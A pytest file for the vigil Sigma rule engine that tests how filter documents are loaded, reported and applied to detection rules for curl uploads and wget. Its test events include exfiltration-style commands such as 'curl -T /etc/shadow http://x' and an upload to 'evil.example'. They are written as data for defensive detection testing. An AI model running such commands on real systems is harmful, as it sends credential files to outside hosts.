"""Sigma filters (vigil.rules.filters, their loading in vigil.rules.loader): FILE:LINE errors
for bad filter documents, and what a filter does to the real engine (Engine.build + match):
the excepted event no longer matches, the others still do; by id and by name; logsource
coverage; search names that cannot collide; ``vigil rules check|list``."""

from __future__ import annotations

import json
import textwrap
from pathlib import Path

import pytest

from vigil.cli import main
from vigil.rules.filters import Filter, apply_filters
from vigil.rules.loader import LoadResult, load_paths, load_text
from vigil.rules.matcher import Engine
from vigil.rules.model import LogSource, Not, Ref
from vigil.rules.schema import filter_schema

RID = "6f3e2987-db24-4c78-a860-b4f4095a7095"
RID2 = "df0841c0-9846-4e9f-ad8a-7df91571771b"

CURL = f"""\
title: Curl upload
id: {RID}
name: curl_upload
status: test
logsource:
    product: linux
    category: process_creation
detection:
    selection:
        CommandLine|contains: 'curl -T'
    condition: selection
"""

WGET = f"""\
title: Wget to tmp
id: {RID2}
status: test
logsource:
    product: linux
    category: process_creation
detection:
    selection:
        CommandLine|contains: 'wget'
    filter_quiet:
        CommandLine|contains: ' -q'
    condition: selection and not filter_quiet
"""


def flt(rules: str = f"- {RID}", selection: str = "User|startswith: 'adm_'",
        condition: str = "selection", logsource: str = "product: linux\ncategory: "
        "process_creation", extra: str = "") -> str:
    ind = textwrap.indent
    return (f"title: Filter admins\nid: 0e95725d-7320-415d-80f7-004da920fc11\n"
            f"logsource:\n{ind(logsource, '    ')}\nfilter:\n    rules:\n"
            f"{ind(rules, '        ')}\n    selection:\n{ind(selection, '        ')}\n"
            f"{ind(extra, '    ')}"
            f"    condition: {condition}\n")


def load(tmp_path: Path, *texts: str) -> LoadResult:
    for i, t in enumerate(texts):
        (tmp_path / f"d{i}.yml").write_text(t)
    res = load_paths([tmp_path])
    assert not res.refused, [str(e) for e in res.refused]
    return res


def engine(tmp_path: Path, *texts: str) -> tuple[Engine, list[str]]:
    res = load(tmp_path, *texts)
    rules, warnings = apply_filters(res.rules, res.filters)
    eng = Engine.build(rules)
    assert not eng.errors
    return eng, warnings


def fired(eng: Engine, **rec: str) -> list[str]:
    return sorted(r.title for r in eng.match("process_creation", rec))


# --- loading ------------------------------------------------------------------------------

def test_filter_document_loads() -> None:
    res = load_text(flt(rules=f"- {RID}\n- curl_upload"), "mf.yml")
    assert not res.refused and not res.rules and not res.correlations
    (f,) = res.filters
    assert (f.title, f.id, f.rules, f.where) == ("Filter admins",
                                                 "0e95725d-7320-415d-80f7-004da920fc11",
                                                 (RID, "curl_upload"), "mf.yml:1")
    assert f.logsource == LogSource("linux", "process_creation", None)
    assert f.condition == Ref("selection") and set(f.searches) == {"selection"}
    assert f.rules_lines == (8, 9) and f.logsource_line == 3 and not f.warnings


@pytest.mark.parametrize(("text", "line", "what"), [
    (flt().replace("    rules:\n        - " + RID + "\n", ""), 6,
     "filter 'rules' is required (Sigma filter schema)"),
    (flt(rules="[]"), 7, "filter.rules needs at least 1 item(s)"),
    (flt(rules=RID), 7, "filter.rules must be array, not string"),
    (flt().replace("logsource:\n    product: linux\n    category: process_creation\n", ""),
     1, "'logsource' is required"),
    (flt(condition="selection and not other"), 11, "'other' (column 19) is not a search"),
    (flt(condition="[selection]"), 11, "filter.condition must be string, not array"),
    (flt(selection="User|nosuch: x"), 10, "User|nosuch: unknown modifier"),
    (flt(extra="other: 42\n"), 11, "search 'other' must be a map or a list"),
    (flt(extra="other: [[x]]\n"), 11, "search 'other' must be a map or a list"),
    (flt() + "correlation:\n    type: event_count\n", 6, "a correlation or a filter, not both"),
    (flt().replace("title: Filter admins", "title: 42"), 1, "title must be string"),
])
def test_bad_filter_is_refused_with_its_line(text: str, line: int, what: str) -> None:
    res = load_text(text, "mf.yml")
    assert not res.filters and len(res.refused) == 1, [str(e) for e in res.refused]
    msg = str(res.refused[0])
    assert msg.startswith(f"mf.yml:{line}: ") and what in msg, msg


def test_filter_ids_are_unique_among_all_documents(tmp_path: Path) -> None:
    (tmp_path / "a.yml").write_text(CURL)
    (tmp_path / "b.yml").write_text(flt().replace("0e95725d-7320-415d-80f7-004da920fc11",
                                                  RID))
    res = load_paths([tmp_path])
    assert len(res.rules) == 1 and not res.filters
    assert [str(e) for e in res.refused] == [
        f"{tmp_path}/b.yml:1: duplicate id {RID} (first in {tmp_path}/a.yml:1)"]


def test_shipped_filter_schema_is_checked_keyword_by_keyword() -> None:
    assert filter_schema()["properties"]["filter"]["properties"]["rules"]["minItems"] == 1


# --- semantics ----------------------------------------------------------------------------

@pytest.mark.parametrize("ref", [RID, "curl_upload"], ids=["by-id", "by-name"])
def test_filtered_rule_skips_the_excepted_event_only(tmp_path: Path, ref: str) -> None:
    eng, warnings = engine(tmp_path, CURL, WGET, flt(rules=f"- {ref}"))
    assert warnings == []
    assert fired(eng, CommandLine="curl -T /etc/shadow http://x", User="adm_backup") == []
    assert fired(eng, CommandLine="curl -T /etc/shadow http://x", User="bob") == \
        ["Curl upload"]
    assert fired(eng, CommandLine="curl -T /etc/shadow http://x") == ["Curl upload"]
    # the rule the filter does not name is untouched
    assert fired(eng, CommandLine="wget http://x", User="adm_backup") == ["Wget to tmp"]


def test_filter_keeps_the_rule_own_searches_of_the_same_name(tmp_path: Path) -> None:
    # both the rule and the filter have 'selection' (and the rule a name like the renamed one)
    clash = CURL.replace("    condition: selection\n",
                         "    '~filter1:selection':\n        Image: /never\n"
                         "    condition: selection or '~filter1:selection'\n"
                         ).replace("condition: selection or '~filter1:selection'",
                                   "condition: selection")
    res = load(tmp_path, clash, flt(selection="CommandLine|contains: 'backup.example'"))
    rules, _ = apply_filters(res.rules, res.filters)
    (r,) = rules
    assert set(r.searches) == {"selection", "~filter1:selection",
                               "~filter1:selection#2"}
    eng = Engine.build(rules)
    assert fired(eng, CommandLine="curl -T f http://backup.example/") == []
    assert fired(eng, CommandLine="curl -T f http://evil.example/") == ["Curl upload"]
    assert r.filters == (f"{tmp_path}/d1.yml:1",)
    assert r.condition_text == "(selection) and not (selection)"


def test_filter_condition_over_several_searches(tmp_path: Path) -> None:
    eng, _ = engine(tmp_path, CURL, flt(
        selection="User: backup", extra="sel_host:\n    CommandLine|contains: 'nas.lan'\n",
        condition="all of sel* and not 1 of other*",
    ).replace("condition: all of sel* and not 1 of other*",
              "other_x:\n        CommandLine|contains: '--insecure'\n"
              "    condition: all of sel* and not 1 of other*"))
    assert fired(eng, CommandLine="curl -T f nas.lan", User="backup") == []
    assert fired(eng, CommandLine="curl -T f nas.lan --insecure", User="backup") == \
        ["Curl upload"]
    assert fired(eng, CommandLine="curl -T f nas.lan", User="eve") == ["Curl upload"]


def test_two_filters_on_one_rule_both_leave_out(tmp_path: Path) -> None:
    second = flt(selection="User: root").replace("0e95725d-7320-415d-80f7-004da920fc11",
                                                 "0e95725d-7320-415d-80f7-004da920fc12")
    eng, _ = engine(tmp_path, CURL, flt(), second)
    assert fired(eng, CommandLine="curl -T x", User="adm_1") == []
    assert fired(eng, CommandLine="curl -T x", User="root") == []
    assert fired(eng, CommandLine="curl -T x", User="eve") == ["Curl upload"]


def test_logsource_must_cover_the_rule(tmp_path: Path) -> None:
    # product only: covers every Linux rule
    eng, warnings = engine(tmp_path, CURL, flt(logsource="product: linux"))
    assert warnings == [] and fired(eng, CommandLine="curl -T x", User="adm_1") == []


def test_filter_of_another_logsource_is_not_applied(tmp_path: Path) -> None:
    eng, warnings = engine(tmp_path, CURL, flt(logsource="product: linux\ncategory: file_event"))
    assert fired(eng, CommandLine="curl -T x", User="adm_1") == ["Curl upload"]
    assert warnings == [
        f"{tmp_path}/d1.yml:3: warning: filter 'Filter admins' is not applied to 'Curl upload' "
        f"({tmp_path}/d0.yml:1): its logsource (product=linux, category=file_event) does not "
        "cover the rule's (product=linux, category=process_creation)"]


def test_filter_naming_no_loaded_rule_warns(tmp_path: Path) -> None:
    _, warnings = engine(tmp_path, CURL, flt(rules=f"- {RID}\n- no_such_rule"))
    assert warnings == [f"{tmp_path}/d1.yml:9: warning: filter 'Filter admins' names "
                        "'no_such_rule', which is no loaded rule's id or name"]


def test_filter_field_vigil_lacks_warns(tmp_path: Path) -> None:
    _, warnings = engine(tmp_path, CURL, flt(selection="ParentUser: admin"))
    assert len(warnings) == 1 and warnings[0].startswith(
        f"{tmp_path}/d1.yml:10: warning: filter 'Filter admins': field 'ParentUser'")


def test_negated_filter_condition_warns_at_load() -> None:
    res = load_text(flt(condition="not selection"), "mf.yml")
    (f,) = res.filters
    assert f.condition == Not(Ref("selection"))
    assert [line for line, _ in f.warnings] == [11]
    assert "pySigma" in f.warnings[0][1]


def test_filter_applies_to_the_listed_rules_only() -> None:
    res = load_text(CURL, "r.yml")
    other = load_text(WGET, "w.yml").rules[0]
    f: Filter = load_text(flt(), "mf.yml").filters[0]
    rules, _ = apply_filters([res.rules[0], other], [f])
    assert rules[1] is other and rules[0] is not res.rules[0]
    assert f.names(rules[0]) and not f.names(other)


# --- vigil rules --------------------------------------------------------------------------

def test_cli_counts_and_lists_filters(tmp_path: Path, capsys: pytest.CaptureFixture[str]
                                      ) -> None:
    (tmp_path / "a.yml").write_text(CURL)
    (tmp_path / "mf.yml").write_text(flt(rules=f"- {RID}\n- gone"))
    assert main(["rules", "check", str(tmp_path)]) == 0
    out, err = capsys.readouterr()
    assert out == "1 loaded, 0 refused, 0 with unmapped fields, 0 correlations, 1 filter\n"
    assert "mf.yml:9: warning: filter 'Filter admins' names 'gone'" in err
    assert main(["rules", "list", "--json", str(tmp_path)]) == 0
    docs = json.loads(capsys.readouterr().out)
    assert [d["kind"] for d in docs] == ["rule", "filter"]
    assert docs[0]["filters"] == [f"{tmp_path}/mf.yml:1"]
    assert "not (selection)" in docs[0]["condition"]
    assert main(["rules", "list", str(tmp_path)]) == 0
    out, err = capsys.readouterr()
    assert "Curl upload (filtered)" in out and "filter " in out
    assert err.endswith("1 rules, 0 correlations, 1 filter\n")
    (tmp_path / "bad.yml").write_text(flt(rules="[]"))
    assert main(["rules", "check", str(tmp_path)]) == 2
    out, err = capsys.readouterr()
    assert out.startswith("1 loaded, 1 refused")
    assert f"{tmp_path}/bad.yml:7: filter.rules needs at least 1 item(s)" in err
